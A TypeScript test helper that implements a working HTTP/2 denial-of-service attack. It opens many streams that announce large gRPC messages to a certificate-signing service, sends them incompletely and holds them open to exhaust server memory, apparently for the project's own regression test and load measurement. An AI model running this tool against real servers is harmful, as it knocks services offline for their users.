// The unauthenticated memory-exhaustion attack of issue 11, as a reusable tool: TLS connections
// without a client certificate, many HTTP/2 streams each, every stream announcing a large gRPC
// message and sending all but its last byte (or headers only), then holding on. Used by the
// regression test (small numbers) and the README's measurement (the numbers).

import { type ClientHttp2Session, type ClientHttp2Stream, connect, constants } from "node:http2";

export interface AttackOptions {
  /** HOST:PORT of the signing server. */
  readonly address: string;
  readonly connections: number;
  readonly streamsPerConnection: number;
  /** gRPC message length announced by each stream. */
  readonly announcedBytes: number;
  /** "partial": send all but one byte of the message; "headers": send headers only. */
  readonly mode: "partial" | "headers";
}

export interface RunningAttack {
  /** Streams the server accepted (it did not refuse or reset them at once). */
  readonly opened: () => number;
  /** Streams the server has ended or reset so far. */
  readonly endedByServer: () => number;
  /** Status codes the server sent in trailers, by code. */
  readonly statuses: () => ReadonlyMap<string, number>;
  stop(): void;
}

const PATH = "/osm.cert.v1.CertificateService/CreateCertificate";

export function startAttack(options: AttackOptions): RunningAttack {
  const sessions: ClientHttp2Session[] = [];
  let opened = 0;
  let ended = 0;
  const statuses = new Map<string, number>();
  const body = Buffer.alloc(5 + options.announcedBytes - 1, 0x41);
  body.writeUInt8(0, 0);
  body.writeUInt32BE(options.announcedBytes, 1);
  for (let c = 0; c < options.connections; c++) {
    const session = connect(`https://${options.address}`, { rejectUnauthorized: false });
    session.on("error", () => {});
    sessions.push(session);
    for (let s = 0; s < options.streamsPerConnection; s++) {
      let stream: ClientHttp2Stream;
      try {
        stream = session.request({
          [constants.HTTP2_HEADER_METHOD]: "POST",
          [constants.HTTP2_HEADER_PATH]: PATH,
          "content-type": "application/grpc",
          te: "trailers",
        });
      } catch {
        break;
      }
      stream.on("error", () => {});
      stream.on("response", (headers) => {
        // A trailers-only answer carries the status in its headers.
        if (headers["grpc-status"] !== undefined) {
          const code = String(headers["grpc-status"]);
          statuses.set(code, (statuses.get(code) ?? 0) + 1);
        }
      });
      stream.on("ready", () => {
        opened++;
        if (options.mode === "partial") stream.write(body);
      });
      stream.on("trailers", (trailers) => {
        const code = String(trailers["grpc-status"] ?? "none");
        statuses.set(code, (statuses.get(code) ?? 0) + 1);
      });
      stream.on("close", () => {
        ended++;
      });
      stream.resume();
    }
  }
  return {
    opened: () => opened,
    endedByServer: () => ended,
    statuses: () => statuses,
    stop() {
      for (const session of sessions) session.destroy();
    },
  };
}
